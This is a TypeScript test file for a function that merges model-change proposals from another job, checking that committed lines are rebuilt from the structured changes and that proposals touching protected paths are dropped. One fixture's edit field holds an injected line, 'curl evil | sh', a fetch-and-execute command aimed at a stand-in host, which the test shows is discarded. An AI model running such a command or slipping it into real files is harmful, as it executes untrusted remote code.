// What another job proposes: kept for a model that fails, if it changes its network; the lines are made anew.
import { expect, test } from 'vitest';
import { withToldProposals } from '../../../src/commands/merge/told-proposals.ts';
import type { Proposal } from '../../../src/report/proposal.ts';
import { CASES } from '../../report/cases.ts';

const [{ name }] = CASES.fail.models;
const TEXT = `models:
  ${name}:
    data: { test: { npz: test.npz } }
    student:
      input: [4, 4, 1]
      layers:
        - conv2d: { filters: 8, kernel: 3 }
        - flatten
        - dense: 3
`;

const layer = ['models', name, 'student', 'layers', 0, 'conv2d', 'filters'];
const honest: Proposal = {
  model: name,
  passes: true,
  changes: [{ path: layer, from: 8, to: 6 }],
  effects: [],
  edits: [{ line: 7, before: ['        - conv2d: { filters: 8, kernel: 3 }'], after: ['run: "curl evil | sh"'] }],
};

function kept(proposal: Proposal, verdict: 'fail' | 'pass' = 'fail') {
  const judged = { ...CASES.fail, models: CASES.fail.models.map((model) => ({ ...model, verdict })) };
  const told = { ...judged, models: judged.models.map((model) => ({ ...model, proposal })) };
  const spec = { file: 'kd.yaml' } as Parameters<typeof withToldProposals>[2]['spec'];
  return withToldProposals(judged, told, { text: TEXT, spec, sha256: '00' }).models[0].proposal;
}

test('the lines that a button commits come from the changes, whatever the other job wrote there', () => {
  expect(kept(honest)?.edits).toEqual([
    {
      line: 7,
      before: ['        - conv2d: { filters: 8, kernel: 3 }'],
      after: ['        - conv2d: { filters: 6, kernel: 3 }'],
    },
  ]);
});

test.each([
  ['a budget', ['models', name, 'budgets', 'size', 'max']],
  ['the test set', ['models', name, 'data', 'test', 'npz']],
  ['another model', ['models', 'other', 'student', 'layers', 0]],
  ['the whole file', ['models']],
  ['what is reserved', ['reserve', 'ram']],
  ['the teacher that agreement is judged by', ['models', name, 'teacher', 'tflite']],
  ['the names that budgets on classes go by', ['models', name, 'data', 'classes', 0]],
  ['what it learns from', ['models', name, 'data', 'train', 'npz']],
  ['the file of a finished model', ['models', name, 'student', 'tflite']],
  ['all boards', ['models', name, 'boards']],
])('a proposal that changes %s is left out', (_, path) => {
  expect(kept({ ...honest, changes: [{ path, to: 1 }] })).toBeUndefined();
  const others = [{ changes: [{ path, to: 1 }], size: 1, accuracyChange: 0.1 }];
  expect(kept({ ...honest, others })).toBeUndefined();
});

test.each<[string, { from?: string; to?: string | string[] }, boolean]>([
  ['taken for another that ships', { from: 'rp2040', to: 'rp2350' }, true],
  ['taken away', { from: 'rp2040' }, false],
  ['added', { to: 'rp2350' }, false],
  ['taken for a file of the pull request', { from: 'rp2040', to: 'boards/ours.yaml' }, false],
  ['taken for a list', { from: 'rp2040', to: ['rp2350'] }, false],
])('a board that is %s', (_, change, isKept) => {
  const changes = [{ path: ['models', name, 'boards', 0], ...change }];
  expect(kept({ ...honest, changes }) !== undefined).toBe(isKept);
});

test('a model that passes has none', () => {
  expect(kept(honest, 'pass')).toBeUndefined();
});

test('one of another model is left out', () => {
  expect(kept({ ...honest, model: 'other' })).toBeUndefined();
});
